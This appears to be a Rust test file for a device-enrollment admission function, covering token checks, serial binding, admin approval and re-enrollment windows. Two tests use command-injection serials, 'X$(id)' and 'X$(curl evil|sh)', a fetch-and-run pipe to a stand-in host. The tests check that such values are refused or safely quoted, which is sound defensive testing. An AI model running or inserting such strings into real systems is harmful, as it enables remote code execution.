use super::*;

const NOW: i64 = 1_800_000_000_000_000;

fn at(micros: i64) -> Timestamp {
    Timestamp::from_micros(micros).unwrap()
}

fn device(state: DeviceState, owned: bool) -> Registered {
    Registered {
        id: "7f1d3a52-3c50-4b59-9d8c-0a3f7e6b1c11".parse().unwrap(),
        state,
        owned,
        reenroll_until: None,
        claimed: false,
        promised: false,
    }
}

fn token() -> Token {
    Token {
        id: "tok-1".into(),
        labels: vec![],
        uses_left: 1,
        uses: 1,
        created: at(NOW - 1),
        created_by: "admin:kim".into(),
        expires: at(NOW + 1),
        serial: None,
        unknown: Unknown::Pending,
        revoked: false,
    }
}

fn decide(token: Option<&Token>, earlier: Earlier, registered: Option<Registered>) -> Admission {
    let claims = EnrollmentClaims { serial: "PF3XK9".into(), ..EnrollmentClaims::default() };
    admit(&Asking { now: at(NOW), token, earlier, claims: &claims, registered })
}

#[test]
fn a_registered_device_of_nobody_is_let_in_by_a_shared_token() {
    let known = device(DeviceState::Registered, false);
    let issue = Admission::Issue { place: Place::Known(known.id), cost: Cost::OneUse };
    assert_eq!(decide(Some(&token()), Earlier::Nothing, Some(known)), issue);
}

#[test]
fn a_device_of_a_person_waits_unless_the_token_is_bound_to_its_serial() {
    let owned = device(DeviceState::Registered, true);
    let place = Place::Known(owned.id);
    assert_eq!(decide(Some(&token()), Earlier::Nothing, Some(owned)), Admission::Wait(place));
    let bound = Token { serial: Some("PF3XK9".into()), ..token() };
    let issue = Admission::Issue { place, cost: Cost::OneUse };
    assert_eq!(decide(Some(&bound), Earlier::Nothing, Some(owned)), issue);
}

#[test]
fn an_unknown_serial_waits_or_is_refused_as_the_token_says() {
    assert_eq!(decide(Some(&token()), Earlier::Nothing, None), Admission::Wait(Place::New));
    let strict = Token { unknown: Unknown::Refuse, ..token() };
    assert_eq!(decide(Some(&strict), Earlier::Nothing, None), Admission::Refuse(Refusal::UnknownSerial));
    let bound = Token { serial: Some("PF3XK9".into()), unknown: Unknown::Refuse, ..token() };
    assert_eq!(
        decide(Some(&bound), Earlier::Nothing, None),
        Admission::Issue { place: Place::New, cost: Cost::OneUse }
    );
}

#[test]
fn every_bad_token_is_refused_for_its_own_reason() {
    let known = Some(device(DeviceState::Registered, false));
    let cases = [
        (None, Refusal::UnknownToken),
        (Some(Token { revoked: true, ..token() }), Refusal::RevokedToken),
        (Some(Token { expires: at(NOW), ..token() }), Refusal::ExpiredToken(at(NOW))),
        (Some(Token { uses_left: 0, ..token() }), Refusal::UsedUpToken),
        (
            Some(Token { serial: Some("OTHER1".into()), ..token() }),
            Refusal::OtherSerial { bound: "OTHER1".into() },
        ),
    ];
    for (token, refusal) in cases {
        assert_eq!(decide(token.as_ref(), Earlier::Nothing, known), Admission::Refuse(refusal));
    }
}

#[test]
fn a_serial_that_another_key_has_enrolled_is_taken_even_for_a_bound_token() {
    let bound = Token { serial: Some("PF3XK9".into()), ..token() };
    for state in [DeviceState::Enrolled, DeviceState::Ready] {
        let admission = decide(Some(&bound), Earlier::Nothing, Some(device(state, false)));
        assert_eq!(admission, Admission::Refuse(Refusal::SerialTaken));
    }
    let revoked = decide(Some(&bound), Earlier::Nothing, Some(device(DeviceState::Revoked, false)));
    assert_eq!(revoked, Admission::Refuse(Refusal::RevokedDevice));
}

#[test]
fn the_same_key_gets_the_same_answer_though_the_token_is_used_up_and_over() {
    let spent = Token { uses_left: 0, expires: at(0), revoked: true, ..token() };
    let enrolled = device(DeviceState::Enrolled, false);
    assert_eq!(
        decide(Some(&spent), Earlier::Enrolled(enrolled), Some(enrolled)),
        Admission::Again(enrolled.id)
    );
    let revoked = device(DeviceState::Revoked, false);
    assert_eq!(
        decide(Some(&spent), Earlier::Enrolled(revoked), Some(revoked)),
        Admission::Refuse(Refusal::RevokedDevice)
    );
}

#[test]
fn a_waiting_key_waits_on_until_an_admin_lets_it_in() {
    let over = Token { uses_left: 0, expires: at(0), ..token() };
    let pending = device(DeviceState::Pending, false);
    let waiting = |approved| Earlier::Waiting { device: pending, code: "7KQ-M2D".into(), approved };
    assert_eq!(
        decide(Some(&over), waiting(false), Some(pending)),
        Admission::WaitOn { code: "7KQ-M2D".into() }
    );
    assert_eq!(
        decide(Some(&over), waiting(true), Some(pending)),
        Admission::Issue { place: Place::Known(pending.id), cost: Cost::Paid }
    );
}

#[test]
fn a_placeholder_serial_is_refused() {
    let claims = EnrollmentClaims { serial: "To be filled by O.E.M.".into(), ..EnrollmentClaims::default() };
    let token = token();
    let asking = Asking {
        now: at(NOW),
        token: Some(&token),
        earlier: Earlier::Nothing,
        claims: &claims,
        registered: None,
    };
    assert!(matches!(admit(&asking), Admission::Refuse(Refusal::Serial(_))));
}

fn open_again(state: DeviceState, owned: bool, until: i64) -> Registered {
    Registered { reenroll_until: Some(at(until)), ..device(state, owned) }
}

#[test]
fn a_device_that_may_enroll_again_is_let_in_by_whatever_token_would_let_it_in_at_first() {
    for state in [DeviceState::Enrolled, DeviceState::Ready, DeviceState::Revoked] {
        let nobodys = open_again(state, false, NOW + 1);
        let issue = Admission::Issue { place: Place::Again(nobodys.id), cost: Cost::OneUse };
        assert_eq!(decide(Some(&token()), Earlier::Nothing, Some(nobodys)), issue);
        let bound = Token { serial: Some("PF3XK9".into()), ..token() };
        let owned = open_again(state, true, NOW + 1);
        assert_eq!(decide(Some(&bound), Earlier::Nothing, Some(owned)), issue);
    }
}

#[test]
fn a_shared_token_does_not_take_over_a_persons_device_that_may_enroll_again() {
    let owned = open_again(DeviceState::Ready, true, NOW + 1);
    let waits = Admission::Wait(Place::Again(owned.id));
    assert_eq!(decide(Some(&token()), Earlier::Nothing, Some(owned)), waits);
    let strict = Token { unknown: Unknown::Refuse, ..token() };
    assert_eq!(decide(Some(&strict), Earlier::Nothing, Some(owned)), waits);
    let others = Token { serial: Some("OTHER1".into()), ..token() };
    let refused = Admission::Refuse(Refusal::OtherSerial { bound: "OTHER1".into() });
    assert_eq!(decide(Some(&others), Earlier::Nothing, Some(owned)), refused);
}

#[test]
fn a_key_that_waits_to_be_a_device_anew_needs_an_admin_and_the_time_that_was_allowed() {
    let waiting = |device, approved| Earlier::Waiting { device, code: "7KQ-M2D".into(), approved };
    let open = open_again(DeviceState::Ready, true, NOW + 1);
    let over = open_again(DeviceState::Ready, true, NOW);
    let wait_on = Admission::WaitOn { code: "7KQ-M2D".into() };
    assert_eq!(decide(Some(&token()), waiting(open, false), Some(open)), wait_on);
    assert_eq!(
        decide(Some(&token()), waiting(open, true), Some(open)),
        Admission::Issue { place: Place::Again(open.id), cost: Cost::Paid }
    );
    assert_eq!(
        decide(Some(&token()), waiting(over, true), Some(over)),
        Admission::Refuse(Refusal::SerialTaken)
    );
    assert!(may_be_approved(&open, at(NOW)) && !may_be_approved(&over, at(NOW)));
    assert!(may_be_approved(&device(DeviceState::Pending, true), at(NOW)));
}

#[test]
fn what_was_allowed_ends_by_itself() {
    for (state, refusal) in
        [(DeviceState::Ready, Refusal::SerialTaken), (DeviceState::Revoked, Refusal::RevokedDevice)]
    {
        let over = open_again(state, false, NOW);
        assert_eq!(decide(Some(&token()), Earlier::Nothing, Some(over)), Admission::Refuse(refusal));
    }
}

#[test]
fn the_old_key_gets_its_old_answer_and_does_not_use_up_what_was_allowed() {
    let open = open_again(DeviceState::Ready, false, NOW + 1);
    assert_eq!(decide(Some(&token()), Earlier::Enrolled(open), Some(open)), Admission::Again(open.id));
}

proptest::proptest! {
    /// Whatever else holds: without a bound token or an admin's word nobody becomes a person's device.
    #[test]
    fn a_shared_token_never_lets_a_machine_in_as_a_persons_device(
        uses_left in 0_u32..3,
        expires in 0_i64..(2 * NOW),
        revoked: bool,
        refuse: bool,
        serial in "[ -~]{0,12}",
        state in 0_usize..5,
        reenroll in proptest::option::of(0_i64..(2 * NOW)),
    ) {
        let states = [
            DeviceState::Registered, DeviceState::Pending, DeviceState::Enrolled, DeviceState::Ready, DeviceState::Revoked,
        ];
        let unknown = if refuse { Unknown::Refuse } else { Unknown::Pending };
        let token = Token { uses_left, expires: at(expires), revoked, unknown, ..token() };
        let claims = EnrollmentClaims { serial, ..EnrollmentClaims::default() };
        let registered =
            Some(Registered { reenroll_until: reenroll.map(at), ..device(states[state], true) });
        let asking = Asking { now: at(NOW), token: Some(&token), earlier: Earlier::Nothing, claims: &claims, registered };
        let admission = admit(&asking);
        let issued = matches!(admission, Admission::Issue { .. } | Admission::Again(_));
        proptest::prop_assert!(!issued);
    }
}

#[test]
fn a_code_is_taken_in_lower_case_and_with_or_without_its_hyphen() {
    for typed in ["7KQ-M2D", "7kq-m2d", "7kqm2d", " 7KQ M2D ", "7kq - m2d\n"] {
        assert_eq!(typed_code(typed), "7KQ-M2D", "{typed:?}");
    }
    assert_eq!(typed_code("7KQ"), "7KQ");
    assert_eq!(typed_code(""), "");
}

#[test]
fn a_serial_that_is_an_order_of_a_shell_is_let_in_only_where_it_is_registered_already() {
    let claims = EnrollmentClaims { serial: "X$(id)".into(), ..EnrollmentClaims::default() };
    let token = token();
    let decided = |registered| {
        admit(&Asking {
            now: at(NOW),
            token: Some(&token),
            earlier: Earlier::Nothing,
            claims: &claims,
            registered,
        })
    };
    let unusual = Admission::Refuse(Refusal::Serial(InvalidSerial::Unusual));
    assert_eq!(decided(None), unusual);
    let known = device(DeviceState::Registered, false);
    let issue = Admission::Issue { place: Place::Known(known.id), cost: Cost::OneUse };
    assert_eq!(decided(Some(known)), issue);
}

#[test]
fn a_remedy_that_is_pasted_into_a_shell_runs_nothing_of_the_serial() {
    for refusal in [
        Refusal::UnknownToken,
        Refusal::OtherSerial { bound: "PF1".into() },
        Refusal::SerialTaken,
        Refusal::RevokedDevice,
        Refusal::LostDevice,
        Refusal::HeldDevice,
    ] {
        let remedy = refusal.remedy("X$(curl evil|sh)");
        assert!(remedy.contains(" 'X$(curl evil|sh)'"), "{remedy}");
        assert!(refusal.remedy("PF1").contains(" PF1"), "a plain one stays plain");
    }
}
